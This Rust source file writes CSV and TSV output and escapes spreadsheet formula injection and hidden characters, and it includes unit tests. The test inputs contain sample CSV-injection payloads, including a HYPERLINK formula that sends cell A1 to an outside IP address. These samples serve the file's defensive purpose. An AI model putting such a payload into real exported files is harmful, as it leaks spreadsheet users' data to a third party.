//! Writes csv and tsv.

use std::borrow::Cow;
use std::io::{self, Write as _};

use csv::{Terminator, Writer, WriterBuilder};
use hss_client::printable;

use super::{BUFFER_SIZE, Output, Spool, spool, spool_error};
use crate::exit::CommandError;
use crate::format::Format;

/// Collects rows, and writes them after the last one: an incomplete file would look complete.
#[derive(Debug)]
pub(crate) struct Delimited {
    lines: Lines,
    /// Whether cells are left unchanged.
    is_raw: bool,
    /// Whether standard output is a terminal.
    is_terminal: bool,
}

#[derive(Debug)]
enum Lines {
    Csv(Box<Writer<Spool>>),
    /// Cells contain neither tabs nor line feeds, and do not begin with a quotation mark. Quoting is therefore never
    /// needed, even where a row is one empty cell.
    Tsv(Spool),
}

impl Delimited {
    pub(crate) fn new(output: &Output) -> Self {
        let lines = if output.format == Format::Tsv {
            Lines::Tsv(spool())
        } else {
            // The writer searches the rest of a cell for quotation marks each time that its buffer is full. A large
            // buffer limits the number of searches.
            let mut writer = WriterBuilder::new();
            writer.flexible(true).terminator(Terminator::CRLF).buffer_capacity(BUFFER_SIZE);
            Lines::Csv(Box::new(writer.from_writer(spool())))
        };
        Self { lines, is_raw: output.options.is_raw, is_terminal: output.is_terminal }
    }

    pub(crate) fn push<'a>(&mut self, cells: impl Iterator<Item = Cow<'a, str>>) -> io::Result<()> {
        match &mut self.lines {
            Lines::Csv(writer) => {
                for cell in cells {
                    let shown = match (self.is_raw, self.is_terminal) {
                        (true, false) => Cow::Borrowed(&*cell),
                        (true, true) => printable(&cell),
                        (false, _) => escape_formulas(&cell, Format::Csv),
                    };
                    writer.write_field(shown.as_bytes())?;
                }
                Ok(writer.write_record(None::<&[u8]>)?)
            }
            Lines::Tsv(spool) => {
                for (index, cell) in cells.enumerate() {
                    if index > 0 {
                        spool.write_all(b"\t")?;
                    }
                    let shown = if self.is_raw { printable(&cell) } else { escape_formulas(&cell, Format::Tsv) };
                    spool.write_all(shown.as_bytes())?;
                }
                spool.write_all(b"\n")
            }
        }
    }

    pub(crate) fn finish(self, output: &Output) -> Result<(), CommandError> {
        output.write_spool(match self.lines {
            Lines::Csv(writer) => writer.into_inner().map_err(|error| spool_error(error.error()))?,
            Lines::Tsv(spool) => spool,
        })
    }
}

/// Escapes a cell against terminals and spreadsheets.
///
/// Hidden characters are escaped. An apostrophe is written before each character that would begin a formula.
///
/// A spreadsheet that separates cells at semicolons does so even inside quotation marks: it recognizes these only at
/// the beginning of a cell. Text after a semicolon is therefore treated as the beginning of a cell. Text after a comma
/// or colon with white space is treated alike, since some programs also split there.
///
/// In tsv, a comma counts like a semicolon: spreadsheets offer to separate cells at tabs, commas and semicolons at the
/// same time. In csv, a cell with a comma is quoted. An apostrophe after a semicolon at the end keeps the closing
/// quotation mark of csv from being the first character of a cell.
fn escape_formulas(cell: &str, format: Format) -> Cow<'_, str> {
    let shown = printable(cell);
    let mut apostrophes = Vec::new();
    // Whether a cell may begin here, and whether a separator precedes that counts only if white space follows it.
    let (mut is_start, mut separator) = (true, false);
    for (index, character) in shown.char_indices() {
        match character {
            _ if is_start && begins_formula(character) => apostrophes.push(index),
            ';' | ',' if character == ';' || format == Format::Tsv => {
                (is_start, separator) = (true, false);
                continue;
            }
            ',' | ':' => {
                (is_start, separator) = (false, true);
                continue;
            }
            _ if character.is_whitespace() => {
                (is_start, separator) = (is_start || separator, false);
                continue;
            }
            _ => {}
        }
        (is_start, separator) = (false, false);
    }
    if shown.trim_end().ends_with(';') {
        apostrophes.push(shown.len());
    }
    if apostrophes.is_empty() {
        return shown;
    }
    let mut escaped = String::with_capacity(shown.len() + apostrophes.len());
    let mut copied = 0;
    for index in apostrophes {
        escaped.push_str(shown.get(copied..index).unwrap_or_default());
        escaped.push('\'');
        copied = index;
    }
    escaped.push_str(shown.get(copied..).unwrap_or_default());
    Cow::Owned(escaped)
}

/// Returns whether a spreadsheet does not read a cell that begins with this character as text. A quotation mark merges
/// all cells up to the next one into its cell.
fn begins_formula(character: char) -> bool {
    // Spreadsheets treat the full-width forms like the others.
    matches!(character, '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '"')
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escapes_formulas() {
        for (cell, shown) in [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1)", "'@SUM(1)"),
            ("\t=1", r"\u{9}=1"),
            ("\r=1", r"\u{d}=1"),
            ("＝1+1", "'＝1+1"),
            ("\u{feff}=1", r"\u{feff}=1"),
            ("\u{200d}=1", r"\u{200d}=1"),
            (r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#, r#"'=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#),
            (" =1", " '=1"),
            ("\u{a0}=1", "\u{a0}'=1"),
            ("\u{2003}\u{3000} =1", "\u{2003}\u{3000} '=1"),
            (r#""=1+1""#, r#"'"=1+1""#),
            ("\"unbalanced", "'\"unbalanced"),
            (" \"unbalanced", " '\"unbalanced"),
            ("a;=1+1", "a;'=1+1"),
            ("a; =1+1; b", "a; '=1+1; b"),
            ("a;\u{3000}\"=1", "a;\u{3000}'\"=1"),
            (";;=1", ";;'=1"),
            ("a, b;", "a, b;'"),
            ("a, b; ", "a, b; '"),
            ("=1;=2", "'=1;'=2"),
            ("linux_vul: =1+1", "linux_vul: '=1+1"),
            ("linux_vul: \u{a0}\"=1+1\"", "linux_vul: \u{a0}'\"=1+1\""),
            ("disk, @SUM(1)", "disk, '@SUM(1)"),
        ] {
            assert_eq!(escape_formulas(cell, Format::Csv), shown, "{cell:?}");
        }
    }

    #[test]
    fn escapes_formulas_after_commas_in_tsv() {
        for (cell, shown) in [
            ("a,=1+1", "a,'=1+1"),
            ("a,\"b", "a,'\"b"),
            ("a,\u{a0}@b,c", "a,\u{a0}'@b,c"),
            ("a;=1+1", "a;'=1+1"),
            ("a,;-1", "a,;'-1"),
            ("linux_vul: =1+1", "linux_vul: '=1+1"),
            ("=1", "'=1"),
            ("192.0.2.1,192.0.2.2", "192.0.2.1,192.0.2.2"),
            ("a:=1", "a:=1"),
        ] {
            assert_eq!(escape_formulas(cell, Format::Tsv), shown, "{cell:?}");
        }
    }

    #[test]
    fn escapes_many_formulas_in_linear_time() {
        let started = std::time::Instant::now();
        assert_eq!(escape_formulas(&";=".repeat(2_000_000), Format::Csv).len(), 6_000_000);
        assert!(started.elapsed().as_secs() < 10, "{:?}", started.elapsed());
    }

    #[test]
    fn leaves_other_text_unchanged() {
        for cell in [
            "",
            " ",
            "a=1",
            "'=1",
            "生产-01",
            "web-1, web-2",
            "a - b",
            "say \"hi\"",
            "2024-11-25T08:00:00-05:00",
            r#"{"a":-1,"b":["c","+d"],"e":"=f"}"#,
            "fe80::1:+",
        ] {
            assert_eq!(escape_formulas(cell, Format::Csv), cell);
        }
    }
}
